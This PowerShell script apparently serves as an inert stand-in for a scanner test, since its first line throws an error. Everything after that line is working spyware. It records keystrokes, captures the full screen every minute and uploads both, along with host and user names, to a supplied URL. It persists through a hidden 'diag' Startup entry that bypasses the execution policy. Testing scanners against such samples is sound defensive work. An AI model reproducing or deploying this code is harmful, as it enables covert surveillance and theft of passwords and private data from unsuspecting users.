throw 'inert depscan stand-in'
param([string]$Upload)
# Screenshots every minute, keystrokes in between, both uploaded; restarted at logon.
Add-Type -AssemblyName System.Windows.Forms, System.Drawing
Add-Type -Name Keys -Namespace Diag -MemberDefinition @'
[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int vKey);
'@

$startup = Join-Path $env:APPDATA 'Microsoft\Windows\Start Menu\Programs\Startup\diag.cmd'
if (-not (Test-Path $startup)) {
    Copy-Item $PSCommandPath (Join-Path $env:APPDATA 'diag.ps1') -Force
    Set-Content $startup "@powershell -w hidden -ep bypass -f `"%APPDATA%\diag.ps1`" $Upload"
}

$keys = New-Object System.Text.StringBuilder
$next = (Get-Date).AddMinutes(1)
while ($true) {
    Start-Sleep -Milliseconds 20
    for ($code = 8; $code -le 254; $code++) {
        if ([Diag.Keys]::GetAsyncKeyState($code) -eq -32767) { [void]$keys.Append([char]$code) }
    }
    if ((Get-Date) -lt $next) { continue }
    $next = (Get-Date).AddMinutes(1)
    $screen = [System.Windows.Forms.SystemInformation]::VirtualScreen
    $bitmap = New-Object System.Drawing.Bitmap $screen.Width, $screen.Height
    $graphics = [System.Drawing.Graphics]::FromImage($bitmap)
    $graphics.CopyFromScreen($screen.Left, $screen.Top, 0, 0, $bitmap.Size)
    $file = Join-Path $env:TEMP ('d' + (Get-Random) + '.png')
    $bitmap.Save($file, [System.Drawing.Imaging.ImageFormat]::Png)
    $graphics.Dispose(); $bitmap.Dispose()
    try {
        Invoke-RestMethod -Uri $Upload -Method Post -Form @{ host = $env:COMPUTERNAME; user = $env:USERNAME; keys = $keys.ToString(); shot = Get-Item $file } | Out-Null
    } catch {}
    Remove-Item $file -Force -ErrorAction SilentlyContinue
    [void]$keys.Clear()
}
